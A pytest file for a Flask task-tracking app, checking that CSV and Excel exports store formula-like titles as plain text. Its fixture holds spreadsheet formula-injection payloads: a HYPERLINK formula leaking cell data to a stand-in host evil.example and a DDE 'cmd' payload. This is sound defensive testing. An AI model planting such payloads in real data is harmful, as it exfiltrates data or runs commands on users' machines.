"""Every CSV and workbook the app writes keeps text as text: a title typed as a formula is never live."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from openpyxl import load_workbook
from sqlalchemy import func

from tracker.extensions import db
from tracker.models import AuditLog, Department, Task

# What an attacker types into a task or sub-task title, and what a spreadsheet would evaluate.
TITLES = {
    "3.1": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "3.1.1": "+1+cmd|' /C calc'!A0",
    "3.2": "-2+3",
    "4.1": "@SUM(1,2)",
}
DANGEROUS = ("=", "+", "-", "@")


@pytest.fixture
def hostile_titles(mini_plan: Flask) -> Flask:
    for code, title in TITLES.items():
        task = db.session.scalar(db.select(Task).filter_by(code=code))
        assert task is not None
        task.title = title
    department = db.session.scalar(db.select(Department).filter_by(name="甲县人民政府"))
    assert department is not None
    department.name = "=1+1 甲县人民政府"
    task.plan.title = "=1+2 测试方案"  # heads the legend and the scoring-rule sheet
    db.session.commit()
    return mini_plan


def _cells(data: bytes):  # type: ignore[no-untyped-def]
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_the_matrix_csv_writes_formula_like_titles_as_text(hostile_titles, client: FlaskClient, login) -> None:
    login("leader")
    rows = list(csv.reader(io.StringIO(client.get("/matrix.csv").data.decode("utf-8-sig"))))
    cells = [v for row in rows for v in row]
    assert not [v for v in cells if v.startswith(DANGEROUS)], "no cell a spreadsheet would evaluate"
    for title in TITLES.values():
        assert "'" + title in cells  # the text itself is kept, behind the apostrophe spreadsheets hide
    assert "'=1+1 甲县人民政府" in rows[0]


def test_the_matrix_workbook_stores_formula_like_titles_as_strings(hostile_titles, client: FlaskClient, login) -> None:
    login("leader")
    cells = _cells(client.get("/matrix.xlsx").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert set(TITLES.values()) <= values and "=1+1 甲县人民政府" in values


def test_the_assessment_workbook_stores_a_formula_like_plan_title_as_a_string(
    hostile_titles, client: FlaskClient, login
) -> None:
    login("leader")
    cells = _cells(client.get("/assessment.xlsx").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if str(c.value).startswith("=1+2 测试方案")]


def test_the_task_workbook_keeps_formulas_and_error_codes_as_text_and_round_trips(
    hostile_titles, runner: FlaskCliRunner, tmp_path: Path
) -> None:
    task = db.session.scalar(db.select(Task).filter_by(code="3.2"))
    assert task is not None
    task.title = "#N/A"  # an error code openpyxl would otherwise store as an error cell
    db.session.commit()
    out = tmp_path / "mini.xlsx"
    assert runner.invoke(args=["plan", "export-xlsx", "--plan", "mini", "-o", str(out)]).exit_code == 0
    cells = _cells(out.read_bytes())
    assert not [c.coordinate for c in cells if c.data_type in {"f", "e"}]
    assert {TITLES["3.1"], TITLES["3.1.1"], TITLES["4.1"], "#N/A"} <= {c.value for c in cells}
    before = db.session.scalar(db.select(func.count()).select_from(AuditLog))
    result = runner.invoke(args=["plan", "import-xlsx", str(out), "--plan", "mini"])
    assert result.exit_code == 0, result.output
    assert db.session.scalar(db.select(func.count()).select_from(AuditLog)) == before
